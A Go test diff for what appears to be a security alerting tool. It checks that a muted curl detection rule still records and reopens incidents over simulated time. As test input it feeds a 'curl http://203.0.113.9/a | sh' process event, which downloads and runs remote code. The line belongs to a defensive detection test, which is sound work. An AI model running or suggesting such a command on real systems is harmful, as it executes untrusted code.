@@ -215,6 +215,40 @@ func TestMuteFromTheThread(t *testing.T) {
 	})
 }
 
+// TestMutedSigmaRuleThatGoesOn: what a rule goes on to find after a mute is
+// told, with all that it stands for.
+func TestMutedSigmaRuleThatGoesOn(t *testing.T) {
+	inWorld(t, func(w *world) {
+		w.env["FIREBREAK_RULES"] = ruleFolder(t, map[string]string{"curl.yml": curlRule})
+		w.start()
+		curl := func(user string) {
+			w.siem("```" + processStart("curl http://203.0.113.9/a | sh", user, "web-1") + "```")
+			w.settle()
+		}
+		curl("www-data")
+		c := w.channel(1)
+		w.settle()
+		w.pass(2 * time.Minute)
+		w.settle()
+		w.send(w.muteForm(c, "sam", w.found(c).TS).Fill("scope", "rule").Fill("for", "1h").Fill("reason", "a roll-out"))
+		c.Command("sam", "/inc close drill")
+		w.pass(45 * time.Minute)
+		curl("deploy")
+		curl("deploy")
+		if kept := w.kept(incident.HandlingSuppressed); len(kept) != 1 || kept[0].Group != account("deploy") || len(w.incidents()) != 1 {
+			t.Fatalf("%d incidents, kept %+v", len(w.incidents()), kept)
+		}
+		w.pass(20 * time.Minute)
+		curl("deploy")
+		if n := len(w.incidents()); n != 2 || len(w.kept(incident.HandlingSuppressed)) != 0 {
+			t.Fatalf("%d incidents", n)
+		}
+		if d := w.detections(2); len(d) != 1 || d[0].Count != 3 || len(d[0].Evidence) != 3 {
+			t.Errorf("told: %+v", d)
+		}
+	})
+}
+
 // mutes are those in force.
 func (w *world) mutes() (list []incident.Suppression) {
 	w.t.Helper()
